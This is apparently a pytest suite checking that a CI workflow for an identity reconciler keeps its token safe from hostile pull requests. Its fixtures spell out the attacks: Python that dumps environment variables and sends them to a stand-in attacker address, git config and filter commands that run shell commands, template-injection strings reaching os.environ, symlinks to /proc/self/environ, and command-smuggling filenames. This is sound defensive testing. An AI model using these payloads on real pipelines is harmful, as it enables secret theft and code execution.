"""Pull requests that are after the token: the workflow's own steps run on them, with the token where it has it.

The evil host listens on another address of this machine. Each pull request is planned, commented, recorded and kept
as any other; then nobody has connected to the evil host, and no file, comment, artifact, output or log has the token.
"""

from __future__ import annotations

import base64
import io
import os
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import pytest
from support.command import ListeningPort, assert_harmless
from support.workflow_runner import GITHUB_TOKEN, Job, git
from support.workflow_scenario import ADA, GRACE, LINUS, WorkflowScenario, ci

from reconciler.commands.init import ACTION

EVIL = "127.0.0.2"


@pytest.fixture
def scenario(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WorkflowScenario]:
    opened = WorkflowScenario(tmp_path, monkeypatch)
    yield opened
    opened.close()


@pytest.fixture
def listener() -> Iterator[ListeningPort]:
    opened = ListeningPort(EVIL)
    yield opened
    opened.close()


def forms(token: str) -> list[bytes]:
    """What the token could look like where it was smuggled to."""
    plain = token.encode()
    # Three alignments, without the ends that depend on the neighboring characters.
    encoded = [base64.b64encode(b"x" * shift + plain)[4:-4] for shift in range(3)]
    return [plain, plain[:12], plain[-12:], plain[::-1], plain.hex().encode(), quote(token, safe="").encode(), *encoded]


def shown(scenario: WorkflowScenario, *jobs: Job) -> bytes:
    """All that a reader could find afterwards: logs, summaries, outputs, GitHub, artifacts unpacked, every file."""
    parts = [repr(job).encode() for job in jobs]
    parts += [repr(request).encode() for request in scenario.api.requests if "/blob/" not in request.target]
    for packed in scenario.api.contents.values():
        with zipfile.ZipFile(io.BytesIO(packed)) as archive:
            parts += [archive.read(name) for name in archive.namelist()]
    for path in scenario.runner.scratch.rglob("*"):
        parts.append(os.fsencode(path))
        if path.is_file() and not path.is_symlink() and ".git" not in path.parts:
            parts.append(path.read_bytes())
    return b"\n".join(parts)


def assert_kept(scenario: WorkflowScenario, listener: ListeningPort, *jobs: Job) -> None:
    """The token went to the sandbox and nowhere else."""
    found = shown(scenario, *jobs)
    assert [form for form in forms(scenario.sandbox.token) if form in found] == []
    assert not listener.heard()
    assert_harmless("\n".join(step.said for job in jobs for step in job.steps))
    assert list(scenario.runner.scratch.rglob("pwned")) == []


def refused(
    scenario: WorkflowScenario, listener: ListeningPort, edit: Callable[[], object], branch: str = "change"
) -> str:
    """What the plan of a pull request says that is not planned; nothing of it counts as reviewed."""
    head = scenario.branch(edit, branch)
    job = scenario.plan(head)
    said = job.said("Plan")
    assert (job.code, scenario.api.artifacts, scenario.api.statuses) == (1, [], {}), said
    assert "No plan could be made" in scenario.comments()[-1]
    assert_kept(scenario, listener, job)
    return said


def state(scenario: WorkflowScenario, name: str) -> Path:
    return scenario.origin / "desired-state" / name


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")


def test_the_search_for_the_token_would_find_it(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    token = scenario.sandbox.token
    for form in forms(token):
        assert form in b"".join([*forms(token), base64.b64encode(b"x" + token.encode())])
    scenario.api.artifact(1, "x", {"deep/plan.json": f"a{token}b".encode() * 50})
    with pytest.raises(AssertionError, match="=="):
        assert_kept(scenario, listener)


# --- where the token goes ---------------------------------------------------------------

HOSTS: dict[str, tuple[Callable[[str, ListeningPort], str], str]] = {
    "another host": (lambda _, listener: listener.url, "the token may not be sent to 127.0.0.2"),
    "a user like the host": (lambda _, listener: f"http://127.0.0.1@{EVIL}:{listener.port}/scim", "may have no user"),
    "a secret": (lambda _, listener: f"{listener.url}/$RECONCILER_TOKEN/${{RECONCILER_TOKEN}}", "may not be sent to"),
}


def test_another_base_url_gets_nothing(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    ours = scenario.sandbox.base_url
    for number, name in enumerate(HOSTS):
        evil, words = HOSTS[name]
        base_url = evil(ours, listener)
        said = refused(
            scenario, listener, lambda new=base_url: scenario.edit("settings.yaml", ours, f"'{new}'"), f"b{number}"
        )
        assert words in said, name
    merged = scenario.merge(git(scenario.origin, "rev-parse", "b0"))
    applied = scenario.apply(merged)
    assert (applied.code, applied.ran("Apply")) == (4, False), "merged all the same"
    assert_kept(scenario, listener, applied)


RULES = [
    "template: '{{ self }}'",
    "template: '{{ environ.RECONCILER_TOKEN }}'",
    "template: '{{ env(\"RECONCILER_TOKEN\") }}'",
    "template: '{{ givenName.__class__.__mro__[1].__subclasses__() }}'",
    "template: '{{ givenName|attr(\"__class__\") }}'",
    "template: '{{ lipsum.__globals__.os.environ }}'",
    "template: '{{ \"{0.__class__}\".format(givenName) }}'",
    "template: '{% include \"/proc/self/environ\" %}'",
    "template: '{% import \"os\" as os %}{{ os }}'",
    "template: '{% for x in range(10**9) %}{% endfor %}'",
    "expression: 'Environment(\"RECONCILER_TOKEN\")'",
    "expression: '__import__(\"os\").environ'",
    "expression: '[RECONCILER_TOKEN].__class__'",
]


def test_mappings_and_profiles_that_reach_for_more_are_refused(
    scenario: WorkflowScenario, listener: ListeningPort
) -> None:
    rows = (scenario.origin / "desired-state/mappings.yaml").read_text()
    first = 1 + rows.count("\n")
    evil = "".join(f"- {{target: name.givenName, {rule}}}\n" for rule in RULES)
    said = refused(scenario, listener, lambda: write(state(scenario, "mappings.yaml"), rows + evil))
    lines = {int(number) for number in re.findall(r"mappings\.yaml:(\d+):", said)}
    # The same error of several rows is reported once, with their lines.
    lines |= {int(number) for found in re.findall(r"Also in lines? ([\d, ]+)\.", said) for number in found.split(", ")}
    missed = [rule for number, rule in enumerate(RULES) if first + number not in lines]
    assert missed == [], said

    def edit() -> None:
        profile = "profile: ../../pull-request/evil\n  hosts: [127.0.0.2]\n  token_env: GITHUB_TOKEN"
        scenario.edit("settings.yaml", "profile: apple-business-manager", profile)
        write(scenario.origin / "evil.py", f"HOSTS = ['{EVIL}']\n")

    said = refused(scenario, listener, edit, "profile")
    assert "target.profile: expected one of apple-business-manager" in said
    assert 'unknown key "hosts"' in said
    assert 'unknown key "token_env"' in said


QUIET = {
    "name.givenName": "constant: '${RECONCILER_TOKEN}'",
    "name.familyName": "constant: '$RECONCILER_TOKEN'",
    "enterprise:employeeNumber": "constant: '${{ secrets.RECONCILER_TOKEN }}'",
    "enterprise:costCenter": "constant: 'env/RECONCILER_TOKEN'",
    "enterprise:division": "template: '{{ RECONCILER_TOKEN }}'",
    "enterprise:department": 'expression: \'Join("", "$RECONCILER", "_TOKEN")\'',
}


def test_text_that_looks_like_a_variable_is_text(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    def edit() -> None:
        rows = state(scenario, "mappings.yaml").read_text().splitlines(keepends=True)
        kept = [row for row in rows if not any(target in row for target in QUIET)]
        write(
            state(scenario, "mappings.yaml"),
            "".join([*kept, *(f'- {{target: "{target}", {rule}}}\n' for target, rule in QUIET.items())]),
        )

    job = scenario.plan(scenario.branch(edit))
    assert job.code == 0, job.said("Plan")
    assert '= "Ada" -> "${RECONCILER_TOKEN}"' in job.said("Plan")
    assert '= "IT" -> "$RECONCILER_TOKEN"' in job.said("Plan")
    assert_kept(scenario, listener, job)


# --- what runs --------------------------------------------------------------------------

PYTHON = """\
import os, socket
open("pwned", "w").write(str(os.environ))
print("pwned", os.environ)
socket.create_connection(("{host}", {port})).send(str(os.environ).encode())
"""
MODULES = (
    "sitecustomize.py",
    "usercustomize.py",
    "httpx.py",
    "json.py",
    "conftest.py",
    "setup.py",
    "jinja2/__init__.py",
)
GIT = """\
[core]
	fsmonitor = touch pwned; env >&2
	hooksPath = hooks
[include]
	path = config
[filter "evil"]
	smudge = touch pwned
	clean = touch pwned
	required = true
[diff "evil"]
	textconv = touch pwned; env
"""
ACTION_STYLES = "pwned {{ plan.__init__.__globals__ }}"


def plant(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    """Files that an attacker could hope to be run or read, at the top and in the desired state."""
    code = PYTHON.format(host=EVIL, port=listener.port)
    for folder in (scenario.origin, scenario.origin / "desired-state"):
        for name in (*MODULES, "reconciler/__init__.py", "reconciler/__main__.py", "hooks/post-checkout"):
            write(folder / name, code)
        write(folder / "evil.pth", "import os; open('pwned', 'w')\n")
        for name in (".gitconfig", "config", "commondir", ".gitmodules"):
            write(folder / name, GIT)
        write(folder / ".gitattributes", "*.yaml diff=evil filter=evil working-tree-encoding=UTF-8 ident\n")
        write(folder / ".lfsconfig", f"[lfs]\n\turl = {listener.url}\n")
        for name in ("pip.conf", "pip.ini"):
            write(folder / name, f"[global]\nindex-url = {listener.url}\ntrusted-host = {EVIL}\n")
        write(folder / ".netrc", f"machine {EVIL} login x password x\n")
        write(folder / ".env", f"RECONCILER_ALLOWED_HOSTS={EVIL}\nHTTPS_PROXY={listener.url}\nPYTHONPATH=.\n")
        for name in ("plan.md.j2", "plan.html.j2", "base.css", "plan.css", "plan.js"):
            write(folder / name, ACTION_STYLES)
        write(folder / "pyproject.toml", "[build-system]\nrequires = ['evil']\nbackend-path = ['.']\n")
        write(folder / "apply.txt", "pwned")
    for name in ("dependencies.lock", "reconciler.txt"):
        write(scenario.origin / "requirements" / name, f"evil @ {listener.url}/evil-1.0-py3-none-any.whl\n")
    for workflow in (scenario.origin / ".github/workflows").glob("*.yml"):
        workflow.write_text(workflow.read_text().replace("run: .venv", "run: touch pwned; env; .venv"))
    action = scenario.origin / ACTION
    action.write_text(action.read_text().replace("run: exec", "run: touch pwned; env; exec"))
    write(scenario.origin / "plans" / "receipt.jsonl", "pwned")
    (scenario.origin / "plan.json").symlink_to("/proc/self/environ")
    (scenario.origin / ".venv").symlink_to("desired-state")


def test_nothing_that_a_pull_request_brings_along_is_run_or_read(
    scenario: WorkflowScenario, listener: ListeningPort
) -> None:
    def edit() -> None:
        (scenario.origin / ".gitignore").unlink()
        plant(scenario, listener)
        scenario.add(GRACE)

    job = scenario.plan(scenario.branch(edit))
    assert job.code == 0, job.said("Plan")
    assert job.outputs["changes"] == "1"
    assert GRACE in scenario.comments()[0]
    for text in (*scenario.comments(), job.summary, *(step.said for step in job.steps)):
        assert "pwned" not in text
    assert_kept(scenario, listener, job)


def test_a_pull_request_is_no_repository_of_its_own_making(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    """Files that git takes for a bare repository, whose configuration it would obey."""

    def edit() -> None:
        write(state(scenario, "HEAD"), "ref: refs/heads/main\n")
        write(state(scenario, "config"), f"{GIT}[core]\n\trepositoryformatversion = 0\n\tbare = true\n")
        write(state(scenario, "objects/info/x"), "")
        write(state(scenario, "refs/heads/x"), "")

    said = refused(scenario, listener, edit)
    assert "cannot use bare repository" in said


# --- what is read -----------------------------------------------------------------------

LINKS = {
    "users/a.yaml": "/proc/self/environ",
    "users/b.yaml": "../../../plan.yml",
    "users/deep": "/proc/self",
    "users/pipe.yaml": "/dev/stdin",
    "users/zero.yaml": "/dev/zero",
    "groups": "/etc",
    "scope.yaml": "/proc/self/cmdline",
    "mappings.yaml": "/proc/self/cwd/desired-state/mappings.yaml",
    "notes": "/",
}
NAMES = ("--output=pwned.yaml", "-o.yaml", "x\n::error::pwned.yaml", "$(touch pwned).yaml", "a;touch pwned.yaml")


def test_links_and_odd_names_lead_nowhere(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    def edit() -> None:
        git(
            scenario.origin,
            "rm",
            "-rq",
            "desired-state/groups",
            "desired-state/scope.yaml",
            "desired-state/mappings.yaml",
        )
        for name, target in LINKS.items():
            state(scenario, name).parent.mkdir(exist_ok=True)
            state(scenario, name).symlink_to(target)
        for name in NAMES:
            write(state(scenario, "users") / name, "- {userPrincipalName: [x]}\n")
        write(state(scenario, "users") / os.fsdecode(b"\xff.yaml"), "[]\n")

    said = refused(scenario, listener, edit)
    for name in LINKS:
        assert f"on {name}:1:1" in said, name
    assert "a file name that is not UTF-8" in said
    assert "passwd" not in said, "nothing is listed behind a link"


WHOLE = ("../desired-state", "/etc")


def test_the_desired_state_is_no_link_to_elsewhere(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    for number, target in enumerate(WHOLE):

        def edit(target: str = target) -> None:
            git(scenario.origin, "rm", "-rq", "desired-state")
            (scenario.origin / "desired-state").symlink_to(target)

        said = refused(scenario, listener, edit, f"b{number}")
        assert "is a link that leaves its repository" in said, target


def test_the_desired_state_is_no_submodule(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    def edit() -> None:
        git(scenario.origin, "rm", "-rq", "desired-state")
        write(scenario.origin / ".gitmodules", f'[submodule "x"]\n\tpath = desired-state\n\turl = {listener.url}\n')
        git(scenario.origin, "update-index", "--add", "--cacheinfo", f"160000,{scenario.first},desired-state")
        git(scenario.origin, "add", ".gitmodules")
        git(scenario.origin, "commit", "-m", "Submodule")
        (scenario.origin / "desired-state").mkdir()

    refused(scenario, listener, edit)


# --- from the review to the apply -------------------------------------------------------


def test_what_is_pushed_after_the_approval_is_not_applied(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    approved = scenario.branch(lambda: scenario.add(GRACE))
    jobs = [scenario.plan(approved)]
    scenario.api.review(7, approved)
    git(scenario.origin, "checkout", "change")
    scenario.add(LINUS)
    head = scenario.commit("One more thing")
    git(scenario.origin, "checkout", "main")
    jobs.append(scenario.plan(head))
    applied = scenario.apply(scenario.merge(head))
    assert (applied.code, scenario.users()) == (4, [ADA])
    assert f'user["{LINUS}"]: would now be created, which was not reviewed' in applied.said("Apply")
    assert_kept(scenario, listener, *jobs, applied)
    scenario.api.review(7, head)
    assert scenario.apply(git(scenario.origin, "rev-parse", "main")).code == 0
    assert scenario.users() == [ADA, GRACE, LINUS]


def test_a_loosened_guard_is_shown_in_the_comment(scenario: WorkflowScenario, listener: ListeningPort) -> None:
    def edit() -> None:
        scenario.edit("settings.yaml", "removals: {count: 10, percent: 10}", "removals: {count: 9999, percent: 100}")
        until = datetime.now(UTC).date() + timedelta(days=30)
        approval = f"{{plan: 'sha256:{'0' * 64}', until: {until}, reason: Trust me}}"
        with state(scenario, "settings.yaml").open("a") as file:
            file.write(f"approvals: [{approval}]\n")

    job = scenario.plan(scenario.branch(edit))
    assert job.code == 0
    for text in (scenario.comments()[0], job.summary):
        assert "guards.removals.count = 10 -> 9999" in text
        assert "guards.removals.percent = 10 -> 100" in text
        assert "approval added" in text
    assert_kept(scenario, listener, job)


def test_a_fork_runs_its_own_workflow_without_anything_to_steal(
    scenario: WorkflowScenario, listener: ListeningPort
) -> None:
    def edit() -> None:
        workflow = scenario.origin / ".github/workflows/ci.yml"
        workflow.write_text(workflow.read_text().replace("run: .venv", "run: env | sort; .venv"))
        action = scenario.origin / ACTION
        action.write_text(action.read_text().replace("run: exec", "run: env | sort; exec"))
        scenario.add(GRACE)

    job = ci(scenario, scenario.branch(edit))
    assert job.code == 0
    assert "GITHUB_REPOSITORY=" in job.said("Validate"), "it did run"
    assert GITHUB_TOKEN.encode() not in shown(scenario, job)
    assert_kept(scenario, listener, job)
